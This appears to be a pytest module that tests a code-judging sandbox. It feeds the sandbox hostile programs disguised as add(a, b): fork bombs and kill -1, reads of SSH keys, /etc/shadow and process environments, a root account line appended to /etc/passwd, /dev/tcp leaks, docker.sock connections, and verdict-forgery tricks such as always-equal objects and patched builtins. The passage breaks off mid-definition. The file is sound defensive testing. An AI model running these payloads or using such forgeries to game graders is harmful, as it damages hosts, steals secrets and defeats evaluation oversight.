"""Hostile programs, grouped by the channel they try: each must end with verdict "fail", leave the
harness and every other process alive, change nothing outside its job, and leave nothing behind
(processes, cgroups, IPC objects, keys, files).

The task is ``add(a, b)``; no hostile program computes it honestly: most return the right answer
only when their attack worked, so a "pass" can only come from an escape or a forged verdict. The
world outside is real: a TCP listener on the host's loopback, listening Unix sockets in the host's
/tmp, /run and run directory and in the abstract namespace, System V shared memory, a message
queue and semaphores, a POSIX shared memory file and message queue, keys in the harness's session
and user keyrings, a run directory with the answers (the harness's working directory during the
battery), a secret in the harness's environment and home, a sentinel directory anyone may write.

All programs of a battery run in one parallel batch (module fixtures). ``needs`` says what a
program's containment relies on beyond the layers every run has (limits, socket hook, seccomp,
the plain-data pipe): "full" (root or user namespaces: namespaces, the view; some would hurt this
machine without them: fork bombs, kill -1), "cgroup_cpu" (whole-job CPU) or "uid" (a sandboxed uid
that is not root's); such programs run only where the sandbox reports those layers. Further
batches: programs that must meet each other (cross-job channels, run at the same time, with
honest jobs beside them that must still pass),
the user namespace mode (the path a harness without root takes, forced here), and the weak mode,
where a few channel programs are expected to get through: proof that the battery would see an
escape, and that the namespaces and the view are what stop them.
"""

from __future__ import annotations

import ctypes
import os
import re
import signal
import socket
import subprocess
import threading
import time
import uuid

import pytest

from ratchet.judge.code import human_eval_path
from ratchet.judge.sandbox import Job, Limits, Sandbox

pytestmark = pytest.mark.slow  # runs hostile programs in the code sandbox

TOKEN = uuid.uuid4().hex[:12]
SECRET = f"hf_secret_{TOKEN}"
MARK = 900000 + int(TOKEN[:5], 16) % 99999  # a distinctive `sleep` argument for orphan hunting
KEY_BASE = 0x5A000000 + int(TOKEN[:5], 16) * 8  # System V keys: host objects, evil objects, cross-job
REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
TESTS = ("assert candidate(1, 2) == 3", "assert abs(candidate(1.5, 2.0) - 3.5) < 1e-9")
LIMITS = Limits(wall_seconds=2.0, cpu_seconds=2, memory_bytes=512 << 20, max_processes=16, file_size_bytes=8 << 20,
                output_bytes=1 << 16, job_memory_bytes=1 << 30, disk_bytes=32 << 20)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
_NR = {"x86_64": {"keyctl": 250, "add_key": 248}, "aarch64": {"keyctl": 219, "add_key": 217}}.get(os.uname().machine)

# Helpers some programs start with: libc calls, so Python's socket audit hook does not apply.
CT = r'''
import ctypes, os, struct, sys, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_NR = {"x86_64": {"keyctl": 250, "add_key": 248, "ptrace": 101, "process_vm_readv": 310, "unshare": 272,
                  "setns": 308, "pidfd_open": 434, "pidfd_send_signal": 424, "io_uring_setup": 425, "mount": 165},
       "aarch64": {"keyctl": 219, "add_key": 217, "ptrace": 117, "process_vm_readv": 270, "unshare": 97,
                   "setns": 268, "pidfd_open": 434, "pidfd_send_signal": 424, "io_uring_setup": 425,
                   "mount": 40}}[os.uname().machine]
def sc(name, *args):
    return _libc.syscall(ctypes.c_long(_NR[name]), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
def unix_connect(name, tag=@tag@):
    fd = _libc.socket(1, 1, 0)
    if fd < 0:
        return False
    raw = name if isinstance(name, bytes) else name.encode()
    addr = struct.pack("=H", 1) + raw
    ok = _libc.connect(fd, addr, len(addr)) == 0
    if ok:
        _libc.send(fd, tag, len(tag), 0)
    _libc.close(fd)
    return ok
def tcp_connect(port, v6=False):
    fd = _libc.socket(10 if v6 else 2, 1, 0)
    if fd < 0:
        return False
    if v6:
        addr = struct.pack("=H", 10) + struct.pack(">H", port) + bytes(4) + bytes(15) + b"\1" + bytes(4)
    else:
        addr = struct.pack("=H", 2) + struct.pack(">H", port) + bytes([127, 0, 0, 1]) + bytes(8)
    ok = _libc.connect(fd, addr, len(addr)) == 0
    if ok:
        _libc.send(fd, b"leak", 4, 0)
    _libc.close(fd)
    return ok
def mq_open(name, flags, mode=0o600):
    try:
        lib = _libc if hasattr(_libc, "mq_open") else ctypes.CDLL("librt.so.1", use_errno=True)
    except OSError:
        return -1
    return lib.mq_open(name, flags, mode, None)
'''

# (channel, name, source, needs). Sources are filled by ``_fill``: @key@ -> repr(value).
PROGRAMS = [
    # ---- CPU and wall clock
    ("cpu", "infinite_loop", "def add(a, b):\n    while True:\n        pass\n", ""),
    ("cpu", "infinite_loop_at_import", "while True:\n    pass\n", ""),
    ("cpu", "sleep_forever", "import time\ndef add(a, b):\n    time.sleep(3600)\n", ""),
    ("cpu", "ignore_sigterm", "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                              "def add(a, b):\n    while True:\n        pass\n", ""),
    ("cpu", "cpu_many_processes", r'''
import os, time
def add(a, b):
    # More than one CPU at once for the whole job would mean the job's CPU is not capped.
    end = time.monotonic() + 1.2
    kids = []
    for _ in range(6):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            while time.monotonic() < end:
                pass
            os._exit(0)
        kids.append(pid)
    for pid in kids:
        os.waitpid(pid, 0)
    t = os.times()
    return a + b if t.children_user + t.children_system > 1.7 else None
''', "cgroup_cpu"),
    # ---- processes: bombs, daemons, signals, tracing
    ("processes", "fork_bomb", "import os\ndef add(a, b):\n    while True:\n        try:\n            os.fork()\n"
                               "        except OSError:\n            pass\n", "full"),
    ("processes", "shell_fork_bomb", "import os\ndef add(a, b):\n    os.system('bomb() { bomb | bomb & }; bomb')\n", "full"),
    ("processes", "thread_bomb", "import threading, time\ndef add(a, b):\n    while True:\n"
                                 "        threading.Thread(target=time.sleep, args=(60,)).start()\n", "full"),
    ("processes", "kill_parent", "import os, signal\ndef add(a, b):\n    for pid in (os.getppid(), @harness@):\n"
                                 "        try:\n            os.kill(pid, signal.SIGKILL)\n"
                                 "        except OSError:\n            pass\n", "full"),
    ("processes", "kill_everything", "import os, signal\ndef add(a, b):\n    os.kill(-1, signal.SIGKILL)\n", "full"),
    ("processes", "stop_everything", "import os, signal, time\ndef add(a, b):\n    os.kill(-1, signal.SIGSTOP)\n"
                                     "    time.sleep(0.5)\n    os.kill(-1, signal.SIGCONT)\n", "full"),
    ("processes", "kill_own_group", "import os, signal\ndef add(a, b):\n    os.killpg(0, signal.SIGKILL)\n", "full"),
    ("processes", "kill_pid_range", r'''
import os, signal
def add(a, b):
    hit = 0
    for pid in range(2, 5000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
                hit += 1
            except OSError:
                pass
    for pid in (@harness@, @bystander@):
        try:
            os.kill(pid, 0)
            return a + b  # the harness's processes are visible by pid
        except OSError:
            pass
    return None
''', "full"),
    ("processes", "orphaned_grandchildren", "import os, subprocess\ndef add(a, b):\n"
                                            "    subprocess.Popen(['sleep', str(@mark@)], start_new_session=True)\n"
                                            "    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
                                            "            os.execvp('sleep', ['sleep', str(@mark@)])\n"
                                            "        os._exit(0)\n    return None\n", "full"),
    ("processes", "nohup_daemon", "import subprocess\ndef add(a, b):\n"
                                  "    subprocess.run(['sh', '-c', 'nohup sleep ' + str(@mark@) + ' >/dev/null 2>&1 &'])\n"
                                  "    return None\n", "full"),
    ("processes", "ptrace_attach", CT + r'''
def add(a, b):
    pids = {@harness@, @bystander@, os.getppid(), 1}
    try:
        pids |= {int(p) for p in os.listdir("/proc") if p.isdigit()}
    except OSError:
        pass
    pids.discard(os.getpid())
    for pid in pids:
        for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            if pid and sc("ptrace", request, pid, 0, 0) == 0:
                return a + b
    return None
''', ""),
    ("processes", "process_vm_readv_harness", CT + r'''
def add(a, b):
    buf = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 64)
    remote = (ctypes.c_void_p * 2)(0x400000, 64)
    for pid in (@harness@, os.getppid()):
        if pid and sc("process_vm_readv", pid, local, 1, remote, 1, 0) > 0:
            return a + b
    return None
''', ""),
    ("processes", "pidfd_signal_harness", CT + r'''
def add(a, b):
    for pid in (@harness@, @bystander@):
        fd = sc("pidfd_open", pid, 0)
        if fd >= 0 and sc("pidfd_send_signal", fd, 19, 0, 0) == 0:  # SIGSTOP
            return a + b
    return None
''', ""),
    # ---- memory
    ("memory", "memory_hog", "def add(a, b):\n    return len(bytearray(8 << 30))\n", ""),
    ("memory", "memory_hog_gradual", "def add(a, b):\n    hog = []\n    while True:\n"
                                     "        hog.append(bytearray(16 << 20))\n", ""),
    ("memory", "memory_many_processes", r'''
import os, time
def add(a, b):
    # Each child stays under the per-process limit; together they would take 3.6 GiB.
    for _ in range(12):
        try:
            if os.fork() == 0:
                hog = b"x" * (300 << 20)
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
    time.sleep(1.2)
    return None
''', ""),
    ("memory", "memory_sysv_shm", CT + r'''
def add(a, b):
    # Shared memory detached from every process still holds its pages.
    made = 0
    for _ in range(64):
        sid = _libc.shmget(0, 64 << 20, 0o1600)
        if sid < 0:
            break
        addr = _libc.shmat(sid, None, 0)
        if addr in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(addr, 1, 64 << 20)
        _libc.shmdt(ctypes.c_void_p(addr))
        made += 1
    return a + b if made * 64 > 1024 else None
''', ""),
    ("memory", "memory_tmpfs", r'''
def add(a, b):
    # Files under the file size limit, until each tmpfs is full.
    written = 0
    for directory in ("/tmp", "/dev/shm", "."):
        for i in range(200):
            try:
                with open(f"{directory}/fill{i}", "wb") as f:
                    for _ in range(7):
                        f.write(b"z" * (1 << 20))
                        written += 1
            except OSError:
                break
    return a + b if written > 1024 else None
''', ""),
    ("memory", "recursion_bomb", "import sys\nsys.setrecursionlimit(10 ** 9)\ndef add(a, b):\n"
                                 "    return add(a, b) + 1\n", ""),
    # ---- output and files
    ("output", "stdout_flood", "def add(a, b):\n    while True:\n        print('x' * 10000)\n", ""),
    ("output", "stderr_flood", "import sys\ndef add(a, b):\n    while True:\n        sys.stderr.write('y' * 10000)\n", ""),
    ("output", "file_size_bomb", "def add(a, b):\n    with open('big', 'wb') as f:\n        while True:\n"
                                 "            f.write(b'z' * (1 << 20))\n", ""),
    ("output", "fd_exhaustion", "def add(a, b):\n    files = []\n    while True:\n"
                                "        files.append(open('/dev/null'))\n", ""),
    # ---- filesystem: writes outside the job
    ("fs_write", "write_outside", "def add(a, b):\n    for path in (@sentinel@ + '/evil', @tmpfile@,\n"
                                  "                 '/work/evil_' + str(@mark@), @sentinel@ + '/keep.txt'):\n"
                                  "        try:\n            open(path, 'w').write('pwned')\n"
                                  "        except OSError:\n            pass\n", "full"),
    ("fs_write", "delete_outside", "import os, shutil\ndef add(a, b):\n    try:\n"
                                   "        os.chmod(@sentinel@ + '/keep.txt', 0)\n"
                                   "    except OSError:\n        pass\n    try:\n        os.remove(@sentinel@ + '/keep.txt')\n"
                                   "    except OSError:\n        pass\n    shutil.rmtree(@sentinel@, ignore_errors=True)\n", "full"),
    ("fs_write", "write_via_proc_root", r'''
import os
def add(a, b):
    done = False
    for path in (f"/proc/{@harness@}/root" + @sentinel@ + "/evil", f"/proc/{@harness@}/cwd/evil",
                 "/proc/1/root" + @sentinel@ + "/evil"):
        try:
            with open(path, "w") as f:
                f.write("pwned")
            done = True
        except OSError:
            pass
    return a + b if done else None
''', "full"),
    ("fs_write", "tamper_with_the_view", r'''
import os
def add(a, b):
    changed = False
    for path, mode in (("/dev/null", 0o600), ("/usr/bin/env", 0o777), ("/etc/passwd", 0o666), ("/", 0o777)):
        try:
            os.chmod(path, mode)
            changed = True
        except OSError:
            pass
    for path in ("/etc/passwd", "/usr/bin/ratchet-evil", "/evil"):
        try:
            with open(path, "a") as f:
                f.write("evil::0:0::/:/bin/sh\n")
            changed = True
        except OSError:
            pass
    return a + b if changed else None
''', "full"),
    ("fs_write", "mknod_disk", r'''
import os, stat
def add(a, b):
    try:
        os.mknod("/tmp/disk", stat.S_IFBLK | 0o666, os.makedev(8, 0))
        with open("/tmp/disk", "rb") as f:
            return a + b if f.read(512) else None
    except OSError:
        return None
''', ""),
    # ---- filesystem: reading run files and secrets
    ("fs_read", "read_env_secret", "import os\ndef add(a, b):\n    print(dict(os.environ))\n"
                                   "    return os.environ.get('RATCHET_HOSTILE_SECRET')\n", ""),
    ("fs_read", "read_proc_environ", "import os\ndef add(a, b):\n    found = []\n    for pid in os.listdir('/proc'):\n"
                                     "        try:\n            found.append(open(f'/proc/{pid}/environ', 'rb').read())\n"
                                     "        except OSError:\n            pass\n"
                                     "    for path in ('/proc/' + str(@harness@) + '/environ', '/proc/1/environ'):\n"
                                     "        try:\n            found.append(open(path, 'rb').read())\n"
                                     "        except OSError:\n            pass\n"
                                     "    print(found)\n", "full"),
    ("fs_read", "read_hidden_answer_key", "def add(a, b):\n    key = open(@hidden@, 'rb').read()  # HumanEval's tests\n"
                                          "    return a + b if len(key) > 1000 else None\n", "full"),
    ("fs_read", "read_run_dir_answers", r'''
import json
def add(a, b):
    # The issue's attack: the run's own files hold the expected values.
    for line in open(@rundir@ + "/answers.jsonl"):
        row = json.loads(line)
        if row["args"] == [a, b]:
            return row["expected"]
''', "full"),
    ("fs_read", "read_run_dir_via_proc", r'''
import json, os
def add(a, b):
    for pid in (@harness@, os.getppid(), 1):
        try:
            for line in open(f"/proc/{pid}/cwd/answers.jsonl"):
                row = json.loads(line)
                if row["args"] == [a, b]:
                    return row["expected"]
        except (OSError, ValueError):
            pass
''', "full"),
    ("fs_read", "read_repo_tests", r'''
def add(a, b):
    text = open(@repo@ + "/tests/judge/test_sandbox_hostile.py").read()
    return a + b if "candidate(1, 2) == 3" in text else None
''', "full"),
    ("fs_read", "scan_filesystem_for_tests", r'''
import os, time
def add(a, b):
    end = time.monotonic() + 1.2
    for top in ("/", ):
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/usr", "/dev")]
            for name in files:
                if time.monotonic() > end:
                    return None
                try:
                    with open(os.path.join(root, name), "rb") as f:
                        data = f.read(1 << 20)
                except OSError:
                    continue
                if b"candidate(1, 2) == 3" in data or @secret@.encode() in data:
                    return a + b
    return None
''', "full"),
    ("fs_read", "read_home_secrets", r'''
import os
def add(a, b):
    for path in (@homefile@, "/root/.bash_history", "/root/.ssh/id_rsa", "/root/.cache/huggingface/token",
                 "/root/.netrc", "/etc/shadow"):
        try:
            if open(path, "rb").read(1):
                return a + b
        except OSError:
            pass
''', "full"),
    ("fs_read", "read_host_tmp", r'''
import os
def add(a, b):
    try:
        return a + b if @secret@ in open(@tmpsecret@).read() else None
    except OSError:
        return None
''', "full"),
    ("fs_read", "read_devices", r'''
import os
def add(a, b):
    opened = [d for d in ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse",
                          "/dev/net/tun", "/dev/nvidia0", "/dev/nvidiactl", "/dev/dri/renderD128", "/dev/tty")
              if os.path.exists(d) and os.access(d, os.R_OK)]
    return a + b if opened else None
''', "full"),
    # ---- network (TCP/IP, other socket families)
    ("network", "open_socket", "import socket\ndef add(a, b):\n    s = socket.socket()\n    s.connect(('127.0.0.1', @port@))\n"
                               "    s.sendall(b'leak')\n    return a + b\n", ""),
    ("network", "raw_socket_module", "import _socket\ndef add(a, b):\n    s = _socket.socket()\n"
                                     "    s.connect(('127.0.0.1', @port@))\n    return a + b\n", ""),
    ("network", "socket_via_subprocess", "import subprocess, sys\ndef add(a, b):\n"
                                         "    code = ('import socket; s = socket.socket(); '\n"
                                         "            's.connect((\"127.0.0.1\", ' + str(@port@) + ')); s.sendall(b\"leak\")')\n"
                                         "    r = subprocess.run([sys.executable, '-c', code])\n"
                                         "    return a + b if r.returncode == 0 else None\n", "full"),
    ("network", "tcp_via_ctypes", CT + "def add(a, b):\n    return a + b if tcp_connect(@port@) or tcp_connect(@port@, v6=True) else None\n", ""),
    ("network", "tcp_via_bash_devtcp", "import subprocess\ndef add(a, b):\n"
                                       "    r = subprocess.run(['bash', '-c', 'echo leak > /dev/tcp/127.0.0.1/' + str(@port@)])\n"
                                       "    return a + b if r.returncode == 0 else None\n", "full"),
    ("network", "other_socket_families", CT + r'''
def add(a, b):
    # vsock reaches a VM's host, netlink the kernel, packet sockets the wire: none may be opened.
    made = []
    for family, kind in ((40, 1), (16, 3), (17, 3), (2, 3), (10, 2), (2, 2)):
        fd = _libc.socket(family, kind, 0)
        if fd >= 0:
            made.append(family)
            _libc.close(fd)
    print(made)
    return a + b if made else None
''', ""),
    ("network", "io_uring", CT + r'''
def add(a, b):
    params = ctypes.create_string_buffer(120)
    fd = sc("io_uring_setup", 8, params)
    return a + b if fd >= 0 else None
''', ""),
    # ---- Unix sockets: filesystem and abstract
    ("unix_socket", "unix_fs_socket_ctypes", CT + r'''
def add(a, b):
    return a + b if any(unix_connect(p) for p in @unix_paths@) else None
''', "full"),
    ("unix_socket", "unix_fs_socket_subprocess", r'''
import subprocess, sys
def add(a, b):
    code = ("import socket, sys\nfor p in sys.argv[1:]:\n    s = socket.socket(socket.AF_UNIX)\n"
            "    try:\n        s.connect(p); s.sendall(b'leak'); sys.exit(0)\n    except OSError:\n        pass\nsys.exit(1)")
    for exe in (sys.executable, "/usr/bin/python3"):
        try:
            if subprocess.run([exe, "-I", "-c", code, *@unix_paths@]).returncode == 0:
                return a + b
        except OSError:
            pass
''', "full"),
    ("unix_socket", "unix_socket_scan", CT + r'''
import stat
def add(a, b):
    found = []
    end = time.monotonic() + 1.2
    for top in ("/run", "/var/run", "/tmp", "/var", "/dev", "/home", "/root", "/work", "/etc", "/srv", "/mnt", "/opt"):
        for root, dirs, files in os.walk(top):
            for name in dirs + files:
                path = os.path.join(root, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        found.append(path)
                except OSError:
                    pass
            if time.monotonic() > end:
                break
    print(found)
    return a + b if any(unix_connect(p) for p in found) else None
''', "full"),
    ("unix_socket", "well_known_service_sockets", CT + r'''
def add(a, b):
    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
             "/run/systemd/journal/stdout", "/var/run/nscd/socket", "/tmp/.X11-unix/X0", "/run/user/0/bus",
             "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/var/run/supervisor.sock"]
    return a + b if any(unix_connect(p) for p in paths) else None
''', "full"),
    ("unix_socket", "abstract_socket_ctypes", CT + "def add(a, b):\n    return a + b if unix_connect(@abstract@) else None\n",
     "full"),
    ("unix_socket", "abstract_socket_subprocess", r'''
import subprocess, sys
def add(a, b):
    code = ("import socket, sys\ns = socket.socket(socket.AF_UNIX)\n"
            "s.connect(b'\\0' + sys.argv[1].encode()); s.sendall(b'leak')")
    r = subprocess.run([sys.executable, "-I", "-c", code, @abstract@[1:].decode()])
    return a + b if r.returncode == 0 else None
''', "full"),
    ("unix_socket", "abstract_socket_listing", r'''
def add(a, b):
    try:
        names = open("/proc/net/unix").read()
    except OSError:
        return None
    return a + b if @abstract@[1:].decode() in names else None
''', "full"),
    # ---- System V and POSIX IPC
    ("ipc", "sysv_shm_read_host", CT + r'''
def add(a, b):
    sid = _libc.shmget(@shm_key@, 0, 0)
    if sid < 0:
        return None
    addr = _libc.shmat(sid, None, 0o10000)  # SHM_RDONLY
    if addr in (None, ctypes.c_void_p(-1).value):
        return None
    data = ctypes.string_at(addr, 64)
    _libc.shmdt(ctypes.c_void_p(addr))
    return a + b if @secret@.encode() in data else None
''', "full"),
    ("ipc", "sysv_msg_and_sem_host", CT + r'''
def add(a, b):
    found = _libc.msgget(@msg_key@, 0) >= 0 or _libc.semget(@sem_key@, 0, 0) >= 0
    return a + b if found else None
''', "full"),
    ("ipc", "sysv_listing", r'''
def add(a, b):
    seen = ""
    for kind in ("shm", "msg", "sem"):
        try:
            seen += open("/proc/sysvipc/" + kind).read()
        except OSError:
            pass
    keys = {int(line.split()[0]) for line in seen.splitlines() if line.split() and line.split()[0].lstrip("-").isdigit()}
    return a + b if {@shm_key@, @msg_key@, @sem_key@} & keys else None
''', "full"),
    ("ipc", "sysv_left_behind", CT + r'''
def add(a, b):
    for i, key in enumerate(@evil_keys@):
        sid = _libc.shmget(key, 1 << 20, 0o1666)
        if sid >= 0:
            addr = _libc.shmat(sid, None, 0)
            if addr not in (None, ctypes.c_void_p(-1).value):
                ctypes.memset(addr, 7, 1 << 20)
        _libc.msgget(key + 100, 0o1666)
        _libc.semget(key + 200, 4, 0o1666)
    return None
''', ""),
    ("ipc", "posix_shm_host", r'''
def add(a, b):
    try:
        return a + b if @secret@ in open(@posix_shm@).read() else None
    except OSError:
        return None
''', "full"),
    ("ipc", "posix_shm_left_behind", r'''
def add(a, b):
    for path in (@evil_shm@, "/dev/shm/sem.ratchet-evil"):
        try:
            open(path, "w").write("left behind")
        except OSError:
            pass
''', ""),
    ("ipc", "posix_mqueue_host", CT + r'''
def add(a, b):
    return a + b if mq_open(@mq_name@, os.O_RDONLY | os.O_NONBLOCK) >= 0 else None
''', "full"),
    ("ipc", "posix_mqueue_left_behind", CT + r'''
def add(a, b):
    mq_open(@evil_mq@, os.O_CREAT | os.O_RDWR, 0o666)
    return None
''', ""),
    # ---- kernel keyring
    ("keyring", "keyring_search", CT + r'''
def add(a, b):
    buf = ctypes.create_string_buffer(256)
    for ring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user-session
        kid = sc("keyctl", 10, ring, b"user", @key_desc@.encode(), 0)  # KEYCTL_SEARCH
        if kid > 0 and sc("keyctl", 11, kid, buf, 256) > 0:  # KEYCTL_READ
            return a + b
    return None
''', ""),
    ("keyring", "keyring_read_by_id", CT + r'''
def add(a, b):
    buf = ctypes.create_string_buffer(256)
    for kid in @key_ids@:
        if sc("keyctl", 11, kid, buf, 256) > 0 or sc("keyctl", 6, kid, buf, 256) > 0:  # READ, DESCRIBE
            return a + b
    return None
''', ""),
    ("keyring", "keyring_left_behind", CT + r'''
def add(a, b):
    for ring in (-3, -4, -5):
        sc("add_key", b"user", b"ratchet-evil", b"left behind", 11, ring)
    sc("keyctl", 22, -1, -4)  # KEYCTL_GET_PERSISTENT: a keyring that outlives the process
    return None
''', ""),
    ("keyring", "keyring_proc_keys", r'''
def add(a, b):
    try:
        return a + b if @key_desc@ in open("/proc/keys").read() else None
    except OSError:
        return None
''', ""),
    # ---- /proc of other processes
    ("proc", "proc_see_other_processes", r'''
import os
def add(a, b):
    mine = {os.getpid()}
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in mine:
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            if b"pytest" in cmd or b"--zygote" in cmd or b"sleep\0120" in cmd:
                return a + b  # the harness, the zygote, another job, the bystander
    return None
''', "full"),
    ("proc", "proc_harness_memory", r'''
def add(a, b):
    for name in ("mem", "environ", "maps", "fd/0", "root/etc/hostname"):
        try:
            open(f"/proc/{@harness@}/{name}", "rb").read(1)
            return a + b
        except OSError:
            pass
''', "full"),
    ("proc", "proc_sysctl_write", r'''
def add(a, b):
    done = False
    for path, value in (("/proc/sys/vm/drop_caches", "1"), ("/proc/sys/kernel/shmmax", "1"),
                        ("/proc/sys/kernel/hostname", "pwned"), ("/proc/sys/user/max_user_namespaces", "1000")):
        try:
            with open(path, "w") as f:
                f.write(value)
            done = True
        except OSError:
            pass
    return a + b if done else None
''', "full"),
    ("proc", "set_hostname", CT + r'''
def add(a, b):
    return a + b if _libc.sethostname(b"pwned", 5) == 0 else None
''', "full"),
    # ---- inherited file descriptors
    ("fds", "inherited_fds", r'''
import os, stat
def add(a, b):
    odd = []
    for fd in range(1024):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        if fd == 0 and stat.S_ISCHR(st.st_mode):
            continue
        if not stat.S_ISFIFO(st.st_mode):
            odd.append((fd, oct(st.st_mode)))
    print(odd)
    return a + b if odd else None
''', "full"),
    ("fds", "forge_result_channel", "import os\nfor fd in range(3, 256):\n    try:\n"
                                    "        os.write(fd, b'L\\tok\\nT\\t0\\tpass\\nT\\t1\\tpass\\nD\\nZ\\n')\n"
                                    "    except OSError:\n        pass\nprint('T\\t0\\tpass\\nD')\n"
                                    "def add(a, b):\n    return None\n", ""),
    ("fds", "close_wire_fds", "import os\ndef add(a, b):\n    os.closerange(3, 1024)\n    return a + b\n", ""),
    # ---- namespaces created inside the sandbox
    ("namespaces", "unshare_user_ns", CT + r'''
def add(a, b):
    return a + b if sc("unshare", 0x10000000) == 0 else None  # CLONE_NEWUSER
''', ""),
    ("namespaces", "unshare_net_mount", CT + r'''
def add(a, b):
    return a + b if sc("unshare", 0x40000000 | 0x20000) == 0 else None
''', ""),
    ("namespaces", "unshare_command", r'''
import subprocess
def add(a, b):
    try:
        r = subprocess.run(["unshare", "-Urn", "true"], capture_output=True)
    except OSError:
        return None
    return a + b if r.returncode == 0 else None
''', ""),
    ("namespaces", "setns_harness", CT + r'''
def add(a, b):
    for pid in (@harness@, 1):
        for ns in ("net", "mnt", "ipc", "pid", "user"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
            except OSError:
                continue
            if sc("setns", fd, 0) == 0:
                return a + b
    return None
''', ""),
    ("namespaces", "mount_anything", CT + r'''
def add(a, b):
    ok = sc("mount", b"proc", b"/tmp", b"proc", 0, 0) == 0 or sc("mount", b"/", b"/tmp", None, 4096, 0) == 0
    return a + b if ok else None
''', ""),
    ("namespaces", "setuid_root", "import os\ndef add(a, b):\n    os.setuid(0)\n    return a + b if os.getuid() == 0 else None\n",
     "uid"),
    ("namespaces", "regain_capabilities", r'''
import subprocess, sys
def add(a, b):
    # Capabilities of this process, and of a new program it executes (exec may grant root's).
    child = subprocess.run([sys.executable, "-c", "print(open('/proc/self/status').read())"], capture_output=True, text=True)
    status = open("/proc/self/status").read() + child.stdout
    caps = [int(line.split()[1], 16) for line in status.splitlines() if line.startswith(("CapEff", "CapPrm", "CapAmb"))]
    return a + b if any(caps) or not caps else None
''', ""),
    ("namespaces", "remount_rw", "import ctypes\ndef add(a, b):\n    libc = ctypes.CDLL(None)\n"
                                 "    ok = libc.mount(None, b'/', None, 32, None) == 0\n    return a + b if ok else None\n", ""),
    # ---- verdict forgery
    ("forgery", "exit_zero_before_tests", "import os\nos._exit(0)\ndef add(a, b):\n    return a + b\n", ""),
    ("forgery", "sys_exit_before_tests", "import sys\nsys.exit(0)\ndef add(a, b):\n    return a + b\n", ""),
    ("forgery", "exit_zero_during_call", "import os\ndef add(a, b):\n    os._exit(0)\n", ""),
    ("forgery", "always_equal_object", "class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
                                       "    def __ne__(self, other):\n        return False\n    def __sub__(self, other):\n"
                                       "        return self\n    def __abs__(self):\n        return 0\n"
                                       "def add(a, b):\n    return AlwaysEqual()\n", ""),
    ("forgery", "always_equal_int_subclass", "class Liar(int):\n    def __eq__(self, other):\n        return True\n"
                                             "    def __sub__(self, other):\n        return 0\n"
                                             "def add(a, b):\n    return Liar(0)\n", ""),
    ("forgery", "patch_builtins", "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.AssertionError = type(None)\n"
                                  "builtins.isinstance = lambda *a: True\ndef add(a, b):\n    return 0\n", ""),
    ("forgery", "patch_os_exit", "import os\nos._exit = lambda code: None\nos.kill = lambda *a: None\n"
                                 "def add(a, b):\n    return None\n", ""),
    ("forgery", "forge_via_exception_message", "def add(a, b):\n"
                                               "    raise ValueError('\\nT\\t0\\tpass\\nT\\t1\\tpass\\nD\\n')\n", ""),
    ("forgery", "keyboard_interrupt", "def add(a, b):\n    raise KeyboardInterrupt\n", ""),
    ("forgery", "stop_itself", "import os, signal\ndef add(a, b):\n    os.kill(os.getpid(), signal.SIGSTOP)\n"
                               "    if os.fork() == 0:\n        os.kill(os.getppid(), signal.SIGSTOP)\n"
                               "        os._exit(0)\n    os.wait()\n", ""),
    ("forgery", "huge_return_value", "def add(a, b):\n    return 'x' * (40 << 20)\n", ""),
    ("forgery", "unserializable_generator", "def add(a, b):\n    return (x for x in [a + b])\n", ""),
]
HOSTILE = {name: (source, needs) for _, name, source, needs in PROGRAMS}
CHANNEL = {name: channel for channel, name, _, _ in PROGRAMS}
assert len(HOSTILE) == len(PROGRAMS), "duplicate program names"

# Cross-job: run at the same time (every job in the batch has its own worker thread). A client
# returns the right answer only if it heard from its server; honest jobs must pass beside them.
XJOB_WINDOW = 1.4
XJOB = {
    "abstract": (CT + r'''
def add(a, b):
    fd = _libc.socket(1, 1, 0)
    addr = struct.pack("=H", 1) + @xabstract@
    _libc.bind(fd, addr, len(addr))
    _libc.listen(fd, 8)
    time.sleep(@window@)
''', CT + r'''
def add(a, b):
    end = time.monotonic() + @window@
    while time.monotonic() < end:
        if unix_connect(@xabstract@):
            return a + b
        time.sleep(0.05)
'''),
    "unix_fs_socket": (CT + r'''
def add(a, b):
    fd = _libc.socket(1, 1, 0)
    addr = struct.pack("=H", 1) + @xsock@.encode()
    _libc.bind(fd, addr, len(addr))
    os.chmod(@xsock@, 0o777)
    _libc.listen(fd, 8)
    time.sleep(@window@)
''', CT + r'''
def add(a, b):
    end = time.monotonic() + @window@
    while time.monotonic() < end:
        if unix_connect(@xsock@):
            return a + b
        time.sleep(0.05)
'''),
    "sysv_shm": (CT + r'''
def add(a, b):
    sid = _libc.shmget(@xkey@, 4096, 0o1666)
    addr = _libc.shmat(sid, None, 0)
    ctypes.memmove(addr, b"hello", 5)
    time.sleep(@window@)
''', CT + r'''
def add(a, b):
    end = time.monotonic() + @window@
    while time.monotonic() < end:
